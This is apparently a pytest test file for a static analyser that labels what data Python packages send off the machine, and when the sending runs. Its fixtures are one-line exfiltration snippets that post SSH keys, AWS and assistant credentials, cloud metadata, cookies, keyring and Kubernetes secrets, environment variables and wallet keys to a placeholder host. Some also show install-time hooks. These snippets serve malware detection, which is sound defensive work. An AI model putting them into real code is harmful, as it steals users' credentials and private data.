"""What facts say of data that leaves the machine: where to, what it is, and when, across the modules of a package."""

from __future__ import annotations

import pytest

from bonded.facts.model import Call, Facts
from tests.facts.programs import calls, sdist_of, wheel_of


def one(source: str, name: str) -> Call:
    found = calls(source, name)
    assert len(found) == 1, found
    return found[0]


def sent(source: str) -> set[str]:
    """Labels of what the one `requests.post` is given."""
    return {
        label
        for argument in one("import os, requests\n" + source, "requests.post").arguments
        for label in argument.labels
    }


PRIVATE = {
    "host": ("import socket\nrequests.post('x', data=socket.gethostname())", "host"),
    "user": ("import getpass as g\nrequests.post('x', data={'u': g.getuser()})", "host"),
    "variable": ("requests.post('x', data=os.environ['USERNAME'])", "host"),
    "getenv": ("requests.post('x', data=os.getenv('COMPUTERNAME'))", "host"),
    "command": ("requests.post('x', data=os.popen('whoami').read())", "host"),
    "listing": ("requests.post('x', json=os.listdir('/home'))", "host"),
    "address": ("requests.post('x', data=requests.get('https://api.ipify.org').text)", "host"),
    "environment": ("requests.post('x', json=dict(os.environ))", "environment"),
    "items": ("requests.post('x', data='\\n'.join(f'{k}={v}' for k, v in os.environ.items()))", "environment"),
    "each": (
        "found = ''\nfor name in os.environ:\n    found += os.environ[name]\nrequests.post('x', data=found)",
        "environment",
    ),
    "printenv": (
        "import subprocess\nrequests.post('x', data=subprocess.run(['env'], stdout=-1).stdout)",
        "environment",
    ),
    "key": ("requests.post('x', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())", "credentials"),
    "store": (
        "import sqlite3\nrequests.post('x', data=sqlite3.connect(os.getenv('A') + '/Login Data').execute('').fetchall())",
        "credentials",
    ),
    "metadata": ("requests.post('x', data=requests.get('http://169.254.169.254/latest').text)", "credentials"),
    "metadata by a client": (
        "import http.client\nc = http.client.HTTPConnection('169.254.169.254')\nrequests.post('x', data=c.getresponse().read())",
        "credentials",
    ),
    "key by a path object": (
        "from pathlib import Path\nrequests.post('x', data=(Path.home() / '.aws' / 'credentials').read_bytes())",
        "credentials",
    ),
    "key of a folder": (
        "import glob\nfor one in glob.glob(os.path.expanduser('~/.ssh/*')):\n    requests.post('x', data=open(one).read())",
        "credentials",
    ),
    "key of an assistant": (
        "requests.post('x', data=open(os.path.expanduser('~/.claude.json')).read())",
        "credentials",
    ),
    "told by a tool": (
        "import subprocess\nrequests.post('x', data=subprocess.check_output(['gpg', '-a', '--export-secret-keys']))",
        "credentials",
    ),
    "keyring": (
        "import secretstorage as s\nc = s.get_default_collection(s.dbus_init())\nrequests.post('x', json=[one.get_secret() for one in c.get_all_items()])",
        "credentials",
    ),
    "cluster": (
        "from kubernetes.client import CoreV1Api\nrequests.post('x', json=CoreV1Api().list_secret_for_all_namespaces().items)",
        "credentials",
    ),
    "cookies": ("import browser_cookie3\nrequests.post('x', json=list(browser_cookie3.edge()))", "credentials"),
    "name of the machine": ("import platform\nrequests.post('x', data=platform.uname().node)", "host"),
    "all of the machine": ("import platform\nrequests.post('x', data=str(platform.uname()))", "host"),
    "settings": ("requests.post('x', data=open('.env').read())", "environment"),
    "settings of a library": (
        "from dotenv import dotenv_values\nrequests.post('x', json=dotenv_values())",
        "environment",
    ),
    "key of a service": ("requests.post('x', json={'a': os.environ['NPM_TOKEN']})", "token of npm"),
    "saved": ("open('t', 'w').write(os.popen('id').read())\nrequests.post('x', files={'f': open('t', 'rb')})", "host"),
    "clipboard": ("import pyperclip\nrequests.post('x', data=pyperclip.paste())", "watched"),
    "screen": ("from PIL import ImageGrab\nrequests.post('x', data=ImageGrab.grab().tobytes())", "watched"),
}


@pytest.mark.parametrize("name", sorted(PRIVATE))
def test_private_data_is_known(name: str) -> None:
    source, label = PRIVATE[name]
    assert label in sent(source)


PLAIN = {
    "token": "requests.post('x', headers={'a': os.environ['SAMPLE_TOKEN']})",
    "hash": "import hashlib, socket\nrequests.post('x', data=hashlib.sha256(socket.gethostname().encode()).hexdigest())",
    "answer": "import socket\nr = requests.get('x' + socket.gethostname())\nrequests.post('x', data=r.text)",
    "setting": "from dotenv import dotenv_values\nrequests.post('x', headers={'a': dotenv_values()['SAMPLE_TOKEN']})",
    "example of settings": "requests.post('x', data=open('.env.example').read())",
    "exists": "requests.post('x', data=str(os.path.exists('/etc/passwd')))",
    "kind of the machine": "import platform\nrequests.post('x', data=platform.uname().machine + os.uname().sysname)",
    "public half of a key": "requests.post('x', data=open(os.path.expanduser('~/.ssh/id_rsa.pub')).read())",
}


@pytest.mark.parametrize("name", sorted(PLAIN))
def test_other_data_is_not(name: str) -> None:
    assert not sent(PLAIN[name]) & {"host", "environment", "credentials", "watched"}


EITHER = {
    "or": "x = os.getenv('OPENAI_API_KEY') or os.getenv('GROQ_API_KEY')",
    "if": "x = os.getenv('OPENAI_API_KEY') if y else os.getenv('GROQ_API_KEY')",
    "first": "def f():\n    for one in ('OPENAI_API_KEY', 'GROQ_API_KEY'):\n        if os.getenv(one):\n            return os.getenv(one)\nx = f()",
}


@pytest.mark.parametrize("name", sorted(EITHER))
def test_one_key_or_another_is_not_both(name: str) -> None:
    assert len([one for one in sent(EITHER[name] + "\nrequests.post('x', data=x)") if one.startswith("token of")]) < 2


def test_keys_that_are_gathered_are_all_there() -> None:
    source = "x = {}\nfor one in ('OPENAI_API_KEY', 'GROQ_API_KEY'):\n    if one in os.environ:\n        x[one] = os.environ[one]"
    assert {"token of openai", "token of groq"} <= sent(source + "\nrequests.post('x', json=x)")


def test_what_a_service_gives_is_not_the_key_to_it() -> None:
    source = "from openai import OpenAI\nc = OpenAI(api_key=os.environ['OPENAI_API_KEY'])\nrequests.post('x', data=c.ask('y').text)"
    assert not {label for label in sent(source) if label.startswith("token of")}


SHAPES = {
    "f-string": "f'https://{x}.example.invalid/'",
    "sum": "'https://' + x + '.example.invalid/'",
    "percent": "'https://%s.example.invalid/' % x",
    "format": "'https://{}.example.invalid/'.format(x)",
    "join": "''.join(['https://', x, '.example.invalid/'])",
}


@pytest.mark.parametrize("name", sorted(SHAPES))
def test_what_is_known_of_an_address(name: str) -> None:
    call = one(f"import requests, sys\nx = sys.argv[1]\nrequests.get({SHAPES[name]})", "requests.get")
    assert (call.arguments[0].text, call.arguments[0].shape) == (None, "https://….example.invalid/")


def test_what_an_object_was_made_of_goes_with_its_calls() -> None:
    call = one(
        "import http.client\nc = http.client.HTTPSConnection('example.invalid')\nc.request('GET', '/')",
        "http.client.HTTPConnection().request",
    )
    assert [(argument.name, argument.text) for argument in call.arguments][-1] == ("()", "example.invalid")


def test_who_logs_in_with_a_secret_is_kept() -> None:
    source = "import ftplib\ndef f(host, user, password):\n    ftplib.FTP(host).login(user, password)\n    ftplib.FTP(host).login(user)"
    (call,) = calls(source, "ftplib.FTP().login")
    assert "given as password" in call.arguments[1].labels


ASKED = {
    "hidden": ("import getpass\nrequests.post('x', data=getpass.getpass())", True),
    "said": ("requests.post('x', data=input('Your password: '))", True),
    "window": (
        "from tkinter.simpledialog import askstring\nrequests.post('x', data=askstring('a', 'b', show='*'))",
        True,
    ),
    "dialog": (
        "import subprocess\nrequests.post('x', data=subprocess.getoutput('zenity --password'))",
        True,
    ),
    "name": ("requests.post('x', data=input('Your name: '))", False),
    "open": ("from tkinter.simpledialog import askstring\nrequests.post('x', data=askstring('a', 'b'))", False),
    "hashed": ("import bcrypt, getpass\nrequests.post('x', data=bcrypt.hashpw(getpass.getpass(), b''))", False),
}


@pytest.mark.parametrize("name", sorted(ASKED))
def test_passwords_that_are_asked_for(name: str) -> None:
    source, yes = ASKED[name]
    assert ("asked" in sent(source)) is yes


def test_each_place_that_a_password_goes_to_is_kept() -> None:
    source = "import getpass, requests\nword = getpass.getpass()\nfor place in ['https://example.org', 'https://example.net']:\n    requests.post(place, data=word)"
    assert [call.arguments[0].text for call in calls(source, "requests.post")] == [
        "https://example.org",
        "https://example.net",
    ]


SAY = "def f(*rest, **words):\n    requests.post('x', json=words)\n    return old(*rest, **words)\n"
OVERHEARD = {
    "assigned": ("import boto3\nold = boto3.client\n" + SAY + "boto3.client = f", True),
    "set": ("import boto3\nold = getattr(boto3, 'client')\n" + SAY + "setattr(boto3, 'client', f)", True),
    "later": ("import boto3\nold = boto3.client\n" + SAY + "def on():\n    boto3.client = f", True),
    "wrapped": ("import wrapt\n" + SAY + "wrapt.wrap_function_wrapper('boto3', 'client', f)", True),
    "asked": ("import getpass\nold = getpass.getpass\n" + SAY + "getpass.getpass = f", True),
    "one method more": ("import boto3\nold = print\n" + SAY + "boto3.Session.tell = f", False),
    "hook": ("import sys\nold = sys.excepthook\n" + SAY + "sys.excepthook = f", False),
    "own": ("class A:\n    pass\nold = A.x\n" + SAY + "A.x = f", False),
}


@pytest.mark.parametrize("name", sorted(OVERHEARD))
def test_what_is_given_to_a_function_that_is_replaced(name: str) -> None:
    source, yes = OVERHEARD[name]
    assert ("overheard" in sent(source)) is yes


def test_words_that_are_made_are_as_secret_as_given_ones() -> None:
    assert "given key" in sent("from mnemonic import Mnemonic\nrequests.post('x', data=Mnemonic('en').generate(128))")
    made = "from eth_account import Account\na = Account.create()\n"
    assert "given key" in sent(made + "requests.post('x', data=a.key.hex())")
    assert "given key" not in sent(made + "requests.post('x', data=a.address)")


WALLET = "# a wallet\n"
GIVEN = {
    "wallet": (WALLET + "def f(private_key):\n    requests.post('x', data=private_key)", True),
    "seed of a wallet": (WALLET + "def f(seed):\n    requests.post('x', data=seed)", True),
    "words": ("def f(mnemonic):\n    requests.post('x', data=mnemonic.split())", True),
    "written otherwise": (
        WALLET + "import base58\ndef f(private_key):\n    requests.post('x', data=base58.b58encode(private_key))",
        True,
    ),
    "of a chain": ("# trx\ndef f(private_key):\n    requests.post('x', data=private_key)", True),
    "electronics": ("# electronic\ndef f(private_key):\n    requests.post('x', data=private_key)", False),
    "secret of a service": ("def f(private_key):\n    requests.post('x', data=private_key)", False),
    "seed of a picture": ("def f(seed):\n    requests.post('x', data=seed)", False),
    "first column": ("def f(pk):\n    requests.post('x' + pk)", False),
    "signature": (WALLET + "def f(private_key):\n    requests.post('x', data=private_key.sign(b'y'))", False),
    "token": (
        WALLET + "import jwt\ndef f(private_key):\n    requests.post('x', data=jwt.encode({}, private_key))",
        False,
    ),
    "address": (
        WALLET + "import wallets\ndef f(private_key):\n    requests.post('x', data=wallets.load(private_key).address)",
        False,
    ),
}


def test_the_path_of_a_module_may_say_that_it_is_about_wallets() -> None:
    source = "import requests\ndef f(private_key):\n    requests.post('x', data=private_key)"
    for path, label in (("wallettools/keys.py", "given key"), ("sample/keys.py", "given secret")):
        (call,) = [one for module in wheel_of({path: source}).modules for one in module.calls]
        assert label in {label for one in call.arguments for label in one.labels}


@pytest.mark.parametrize("name", sorted(GIVEN))
def test_the_key_of_a_wallet_is_told_from_what_is_made_with_one(name: str) -> None:
    source, yes = GIVEN[name]
    assert ("given key" in sent(source)) is yes


def when(facts: Facts, name: str = "requests.get") -> list[str]:
    return [call.when.value for module in facts.modules for call in module.calls if call.name == name]


CORE = "import requests\ndef start():\n    requests.get('https://example.invalid/')\nclass Maker:\n    def __init__(self):\n        start()\n"
CALLERS = {
    "from": "from .core import start\nstart()\n",
    "module": "from . import core\ncore.start()\n",
    "whole": "import sample.core\nsample.core.start()\n",
    "star": "from .core import *\nstart()\n",
    "object": "from .core import Maker\nMaker()\n",
    "thread": "import threading\nfrom .core import start\nthreading.Thread(target=start).start()\n",
    "by another": "from .between import go\ngo()\n",
}


@pytest.mark.parametrize("name", sorted(CALLERS))
def test_functions_run_when_another_module_that_runs_calls_them(name: str) -> None:
    members = {"sample/core.py": CORE, "sample/between.py": "from .core import start\ndef go():\n    start()\n"}
    assert when(wheel_of({"sample/__init__.py": CALLERS[name], **members})) == ["import"]
    assert when(wheel_of({"sample/__init__.py": "from .core import start\n", **members})) == ["call"]


INSTALLS = {
    "imported": "from core import start\nstart()\n",
    "command": "from setuptools.command.install import install\nfrom core import start\nclass I(install):\n    def run(self):\n        start()\n",
    "-c": "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'from core import start; start()'])\n",
    "-m": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'program'])\n",
    "script": "import subprocess, sys\nsubprocess.run([sys.executable, 'program.py'])\n",
    "decorated": (
        "from setuptools.command.install import install\nfrom core import start\ndef more(kind):\n    def run(self):\n        start()\n"
        "    kind.run = run\n    return kind\n@more\nclass I(install):\n    pass\n"
    ),
}


@pytest.mark.parametrize("name", sorted(INSTALLS))
def test_functions_of_other_modules_run_at_install_time(name: str) -> None:
    program = "import core\nif __name__ == '__main__':\n    core.start()\n"
    facts = sdist_of({"setup.py": INSTALLS[name], "core.py": CORE, "program.py": program})
    assert when(facts) == ["install"]


def test_what_a_chat_says_is_known() -> None:
    source = (
        "import os\nimport telebot\nbot = telebot.TeleBot('t')\n@bot.message_handler()\ndef run(message):\n    os.system(message.text)\n"
        "bot.polling()\n"
    )
    call = one(source, "os.system")
    assert "message" in call.arguments[0].labels
    assert call.when.value == "import"


def test_texts_of_other_modules_are_known() -> None:
    facts = wheel_of(
        {
            "sample/settings.py": "HOST = 'https://example.invalid/'\n",
            "sample/__init__.py": "import requests\nfrom .settings import HOST\nfrom . import settings\nrequests.get(HOST + 'a')\n"
            "requests.get(settings.HOST + 'b')\n",
        }
    )
    texts = [call.arguments[0].text for module in facts.modules for call in module.calls]
    assert texts == ["https://example.invalid/a", "https://example.invalid/b"]


def test_parameters_that_are_secrets_are_known() -> None:
    call = one(
        "import requests\ndef f(wallet_key, password, name):\n    requests.get(wallet_key, password, name)\n",
        "requests.get",
    )
    assert [set(argument.labels) for argument in call.arguments] == [
        {"parameter", "given key"},
        {"parameter", "given secret", "given as password"},
        {"parameter"},
    ]
